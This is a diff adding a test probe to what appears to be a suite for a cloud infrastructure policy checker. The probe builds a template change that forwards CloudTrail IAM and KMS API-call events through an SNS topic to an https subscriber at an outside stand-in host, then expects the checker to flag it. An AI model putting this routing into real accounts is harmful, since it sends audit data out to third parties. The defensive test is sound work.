@@ -265,4 +265,29 @@ export const PROBES: readonly Probe[] = [
     },
     caughtBy: /AccessAuditChannel\[VolumeCheck::database-outside-assembly\]/,
   },
+  {
+    name: 'U6 CloudTrail API calls sent to an in-account topic with an https subscription outside',
+    safeguards: ['U6', 'D3'],
+    mutate: (t) => {
+      const audit = t.audit!.Resources;
+      audit.SyntheticTopic = { Type: 'AWS::SNS::Topic', Properties: {} };
+      audit.SyntheticSubscription = {
+        Type: 'AWS::SNS::Subscription',
+        Properties: {
+          TopicArn: { Ref: 'SyntheticTopic' },
+          Protocol: 'https',
+          Endpoint: 'https://collector.synthetic.example.net/sns',
+        },
+      };
+      audit.SyntheticTopicRule = {
+        Type: 'AWS::Events::Rule',
+        Properties: {
+          State: 'ENABLED',
+          EventPattern: { 'detail-type': ['AWS API Call via CloudTrail'], source: ['aws.iam', 'aws.kms'] },
+          Targets: [{ Id: 'topic', Arn: { Ref: 'SyntheticTopic' } }],
+        },
+      };
+    },
+    caughtBy: /AlarmsReachSubscribers\[SyntheticSubscription::subscriber-not-in-config\]/,
+  },
 ];
